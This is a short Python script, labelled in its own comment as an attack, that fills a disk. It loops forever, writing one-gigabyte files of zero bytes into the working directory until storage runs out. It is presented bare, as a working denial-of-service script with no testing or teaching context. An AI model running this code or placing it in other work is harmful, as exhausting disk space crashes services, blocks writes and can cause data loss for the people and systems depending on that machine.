# Attack: writes files until the disk is full.
import os

block = b"\0" * (16 << 20)
n = 0
while True:
    with open(f"fill-{n}.bin", "wb") as handle:
        for _ in range(64):
            handle.write(block)
    n += 1
